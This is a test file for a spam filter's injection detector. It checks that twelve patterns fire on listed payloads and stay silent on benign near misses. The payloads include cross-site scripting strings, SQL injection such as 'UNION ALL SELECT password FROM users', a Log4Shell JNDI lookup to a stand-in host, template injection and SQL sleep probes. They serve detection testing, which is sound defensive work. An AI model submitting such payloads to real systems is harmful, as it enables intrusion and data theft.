import { describe, expect, it } from 'vitest';
import { INJECTIONS, injectionSignals } from '@shared/domain/spam/content-signals.js';
import { submissionText } from '@shared/domain/spam/text.js';
import { loadCorpus } from '@test/support/spam-corpus.js';

/** Payloads for each pattern, their shouting and spaced variants, and near misses that must stay clean. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '< SCRIPT src=//x.test>',
  'text </ script > more',
  'JavaScript :void(0)',
  '<img src=x onerror=alert(1)>',
  '<div onMouseOver = "x()">',
  '<iframe src=//x.test>',
  '< SVG/onload=alert(1)>',
  'document . cookie',
  "1' UNION ALL SELECT password FROM users",
  "' or 1=1 --",
  '" OR "2" = "2',
  '; DROP TABLE users',
  ';truncate from logs',
  '${jndi:ldap://x.test/a}',
  '{{ 7 * 7 }}',
  'SLEEP(5)',
  'pg_sleep ( 10 )',
  'benchmark(1000000,md5(1))',
  'onions = tasty',
  'the union selected a leader',
  'scripture reading',
  'javascript developer wanted',
  'drop the table please',
  'sleep (well)',
  '{{ name }}',
  '<svgs>',
];

describe('injection signal', () => {
  it('fires in one expression exactly where one of its twelve patterns matches', () => {
    const texts = [...PAYLOADS, ...loadCorpus().map((entry) => submissionText(entry.fields).all)];
    const mismatches = texts.filter((text) => {
      const fired = injectionSignals({ ...submissionText({}), all: text }).some((s) => s.code === 'injection');
      return fired !== INJECTIONS.some((pattern) => pattern.test(text));
    });
    expect(mismatches).toEqual([]);
    // Every payload line above the first near miss fires.
    expect(PAYLOADS.slice(0, 19).every((text) => INJECTIONS.some((pattern) => pattern.test(text)))).toBe(true);
    expect(PAYLOADS.slice(19).some((text) => INJECTIONS.some((pattern) => pattern.test(text)))).toBe(false);
  }, 60_000);
});
